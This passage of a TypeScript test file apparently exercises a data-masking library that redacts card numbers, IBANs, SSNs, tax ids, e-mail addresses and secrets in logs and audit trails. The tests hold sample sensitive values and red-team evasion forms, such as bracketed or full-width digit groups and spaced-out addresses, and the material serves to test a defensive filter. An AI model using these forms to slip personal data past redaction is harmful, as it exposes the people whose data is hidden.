    const json = JSON.stringify({ note: '＂quoted＂ ＼ card ４１１１１１１１１１１１１１１１' });
    expect(JSON.parse(maskText(json))).toEqual({ note: '＂quoted＂ ＼ card [card …1111]' });
  });

  it('leaves ordinary text as it is, byte for byte: amounts, dates, sentences with "at" and "dot", other scripts', () => {
    const plain = [
      'order 1234 5678',
      'order ４１１１１１１１１１１１１１１２',
      'delivered 2026\u201311\u201324, paid 24.11.2026 at 10:30',
      'amount 1\u2009234,56\u00a0€ and 480.00 EUR',
      'We met at the office at 10 and I put a dot on the map.',
      'look at the dot in the middle; he got rich at the dot com boom',
      'the docs are available at example.com',
      'Grüße aus München',
      'Grüße aus Mu\u0308nchen, Bestellung 1234',
      'Réponse\u00a0: commande n° 77 expédiée — merci\u200b!',
      'こんにちは。ご注文番号は１２３４です',
      'R&D &amp; ops, 3 (at most) items',
      '\ufeffline one\r\nline two\ttab',
    ];
    for (const text of plain) expect(maskText(text)).toBe(text);
  });

  it('masks an obfuscated card number or IBAN whatever it is mixed with, leaves nothing of it, and is idempotent (property)', () => {
    const written = fc.constantFrom(...SECRETS).chain(([secret]) => obfuscated(secret));
    // Text around it, of any script, with nothing to find, also in canonical form: `㏹` reads `26日` (NFKC), and digits
    // next to a card number can make a longer valid one (`4111 1111 1111 1111 26` passes Luhn), masked whole.
    const around = fc.string({ unit: 'grapheme', maxLength: 12 }).map((s) =>
      [...new Intl.Segmenter().segment(s)]
        .map((g) => g.segment)
        .filter((g) => !/[\p{N}@&]/u.test(g.normalize('NFKC')))
        .join(''),
    );
    fc.assert(
      fc.property(around, written, around, (before, secret, after) => {
        const masked = maskText(`${before} ${secret} ${after}`);
        expect(masked.startsWith(`${before} `) && masked.endsWith(` ${after}`)).toBe(true);
        expect(findRegulatedData(masked)).toEqual([]);
        expect(maskText(masked)).toBe(masked);
        // Nothing of the number is left but what the mask shows (its last four digits), and an invisible character or
        // markup after it.
        expect(masked.slice(before.length, masked.length - after.length).replace(/\p{Cf}|<[^<>]*>/gu, '')).toMatch(
          /^ (?:[A-Z]{2}\*\* \[iban …\w{4}\]|\[card …\d{4}\]) $/,
        );
      }),
      { numRuns: 500 },
    );
  });

  it('changes nothing in text of any script where it finds nothing, and masked text has nothing left to find (property)', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          anyText(60),
          fc
            .tuple(
              anyText(20),
              fc.constantFrom(...SECRETS).chain(([secret]) => obfuscated(secret)),
              anyText(20),
            )
            .map((parts) => parts.join('')),
        ),
        (text) => {
          const masked = maskText(text);
          if (findRegulatedData(text).length === 0) expect(masked).toBe(text);
          expect(findRegulatedData(masked)).toEqual([]);
          expect(maskText(masked)).toBe(masked);
        },
      ),
      { numRuns: 500 },
    );
  });
});

describe("the contract's national ids for the whole process (useContractNationalIds)", () => {
  afterEach(() => useContractNationalIds([]));

  it("the shipped contract's tax id: glued to a letter after it, not before it (hex ids), and never in trace ids", () => {
    const contract = readFileSync(join(__dirname, '../../../apps/policy-engine/contract/countersign.contract.yaml'), 'utf8');
    const pattern = /name: de-tax-id, pattern: '([^']+)'/.exec(contract)![1];
    useContractNationalIds([{ name: 'de-tax-id', pattern }]);
    expect(maskText('Steuer-ID 12345678901x, also 12/345/678/901')).toBe('Steuer-ID [de-tax-id]x, also [de-tax-id]');
    // A span id whose last eleven characters are digits (a CI run logged `ac63a[de-tax-id]`), in free text and as a field.
    expect(maskText('span ac63a12345678901')).toBe('span ac63a12345678901');
    const ids = {
      spanId: '12345678901abcde',
      traceId: '4111111111111111ab12345678901cde',
      traceparent: '00-4111111111111111ab12345678901cde-12345678901abcde-01',
    };
    expect(maskDeep(ids)).toEqual(ids);
    // A UUID whose last group starts with eleven digits (an e2e run's change request id was masked in the audit trail,
    // `197cfbc5-ce2d-4aaf-a611-[de-tax-id]d`): an identifier, in free text and as any field, whatever its digits.
    const changeRequestId = '197cfbc5-ce2d-4aaf-a611-77884615975d';
    expect(maskText(`change request ${changeRequestId} approved`)).toBe(`change request ${changeRequestId} approved`);
    expect(maskDeep({ changeRequestId, detail: `new action ${changeRequestId}` })).toEqual({ changeRequestId, detail: `new action ${changeRequestId}` });
    fc.assert(fc.property(fc.uuid(), (uuid) => expect(maskText(`(new action ${uuid})`)).toBe(`(new action ${uuid})`)));
    // A tax id beside a UUID is still one.
    expect(maskText(`${changeRequestId} 12/345/678/901`)).toBe(`${changeRequestId} [de-tax-id]`);
  });

  it('applies them to every masking that names none, and lets one that names its own keep them', () => {
    expect(maskText('tax id 12 345 678 901')).toBe('tax id 12 345 678 901');
    useContractNationalIds([{ name: 'de-tax-id', pattern: '\\b\\d{2} ?\\d{3} ?\\d{3} ?\\d{3}\\b' }]);
    expect(maskText('tax id 12 345 678 901')).toBe('tax id [de-tax-id]');
    expect(maskDeep({ reason: 'tax id 12345678901', n: [{ note: 'id 12 345 678 901' }] })).toEqual({
      reason: 'tax id [de-tax-id]',
      n: [{ note: 'id [de-tax-id]' }],
    });
    expect(maskText('id XY-123456-Z, tax 12 345 678 901', { nationalIds: [{ name: 'test-id', pattern: /\bXY-\d{6}-Z\b/g }] })).toBe(
      'id [test-id], tax 12 345 678 901',
    );
    useContractNationalIds([]);
    expect(maskText('tax id 12 345 678 901')).toBe('tax id 12 345 678 901');
  });
});

/** ISO 7064 mod 97 of letters (A = 10 … Z = 35) and digits, as an IBAN's check reads them. */
function mod97(text: string): number {
  let rest = 0;
  for (const c of text) rest = (rest * (c >= 'A' ? 100 : 10) + (c >= 'A' ? c.charCodeAt(0) - 55 : Number(c))) % 97;
  return rest;
}

describe('masking regulated data grouped or spaced out (red team, 2026-12-04)', () => {
  // Each was stored in the audit trail as it was; now the digits and the address are masked, the brackets around stay.
  it.each([
    ['Your card (4111)(1111)(1111)(1111) is on file.', 'Your card ([card …1111]) is on file.'],
    ['[4111][1111][1111][1111]', '[[card …1111]]'],
    ['card {4111} {1111} {1111} {1111}', 'card {[card …1111]}'],
    ['card 4111__1111__1111__1111 thanks', 'card [card …1111] thanks'],
    ['card (４１１１)(１１１１)(１１１１)(１１１１)', 'card ([card …1111])'],
    ['SSN on file: 123  45  6789', 'SSN on file: [us-ssn]'],
    ['123  45  6789', '[us-ssn]'],
    ['write to z e l d a @ example . org today', 'write to z***@[email] today'],
    ['zelda @ example . org.', 'z***@[email].'],
    ['z e l d a @ e x a m p l e . o r g', 'z***@[email]'],
  ])('masks %j', (text, masked) => {
    expect(maskText(text)).toBe(masked);
    expect(maskText(masked)).toBe(masked);
  });

  it.each(['card (4111)(1111)(1111)(1112)', 'order (1234)(5678)', 'call me at 5 . 30', 'meet @ 5 . ok'])('leaves %j as it is', (text) => {
    expect(maskText(text)).toBe(text);
  });
});

describe('a secret handed over in prose, and a card security code (red team, 2026-12-07: both reached the audit trail as written)', () => {
  it.each([
    ['Your account is ready, your password has been set to Hunter22! and you can sign in.', 'Your account is ready, your [secret] and you can sign in.'],
    ['Your pin number is 4921.', 'Your [secret].'],
    ['password will be Xk29!pq from tomorrow', '[secret] from tomorrow'],
    ['card 4111 1111 1111 1111 exp 12/29 cvv 123', 'card [card …1111] exp 12/29 [secret]'],
    ['The CVC: 4321', 'The [secret]'],
  ])('masks %j', (text, shown) => {
    expect(maskText(text)).toBe(shown);
    expect(regulatedKinds({ body: text })).toContain('secret');
  });

  it.each([
    'Your password is case-sensitive.',
    'Your password has been reset. Follow the link we sent to sign in again.',
    'Your password must be at least 12 characters long.',
    'Your PIN has been changed as you asked.',
    'The CVV is the 3-digit code on the back of your card.',
  ])('leaves %j as it is', (text) => {
    expect(maskText(text)).toBe(text);
  });
});

describe('what masking wrote, recognised (showsMask: a reviewer edits a masked value)', () => {
  it.each([
    ['an e-mail address', 'write to jane.doe@example.com'],
    ['a card number', 'card 4111 1111 1111 1111'],
    ['an IBAN', 'IBAN DE89 3704 0044 0532 0130 00'],
    ['a phone number', 'call +49 170 1234567'],
    ['a US SSN', 'ssn 123-45-6789'],
    ['a UK NINO', 'NINO AB 12 34 56 C'],
    ['a secret', 'api_key=sk_live_4eC39HqLyjWDarjtT1zdp7dc'],
    ['an e-mail address in base64', 'see amFuZS5kb2VAZXhhbXBsZS5jb20='],
  ])('in every form masking writes: %s', (_, text) => {
    const shown = maskText(text);
    expect(shown).not.toBe(text);
    expect(showsMask(shown)).toBe(true);
  });

  it("knows a contract's own national ids only by the names it is given, and takes other brackets as text", () => {
    expect(showsMask('Steuer-ID [de-tax-id]')).toBe(false);
    expect(showsMask('Steuer-ID [de-tax-id]', ['de-tax-id'])).toBe(true);
    expect(showsMask('[urgent] see [docs] and j***@ example')).toBe(false);
  });
});

describe('masks as a reviewer sees them (`forReviewers`, red team, 2026-12-07)', () => {
  it("keeps an IBAN's check digits and an address's domain, so that two values ending alike are told apart", () => {
    const customer = maskText('pay to DE89370400440532013000', { forReviewers: true });
    const attacker = maskText('pay to DE22500105170000003000', { forReviewers: true });
    expect(customer).toBe('pay to DE89 [iban …3000]');
    expect(attacker).toBe('pay to DE22 [iban …3000]');
    expect(maskText('new address: jane.doe@Evil-Mail.example', { forReviewers: true })).toBe('new address: j***@[email at evil-mail.example]');
    // Logs and the audit trail keep the shorter forms.
    expect(maskText('pay to DE22500105170000003000 from jane.doe@evil-mail.example')).toBe('pay to DE** [iban …3000] from j***@[email]');
  });

  it('is idempotent, and its forms are masks to a revision', () => {
    const once = maskText('jane.doe@evil-mail.example, DE89370400440532013000', { forReviewers: true });
    expect(maskText(once, { forReviewers: true })).toBe(once);
    expect(maskText(once)).toBe(once);
    expect(showsMask('write to j***@[email at evil-mail.example] now')).toBe(true);
    expect(showsMask('DE89 [iban …3000]')).toBe(true);
  });
});
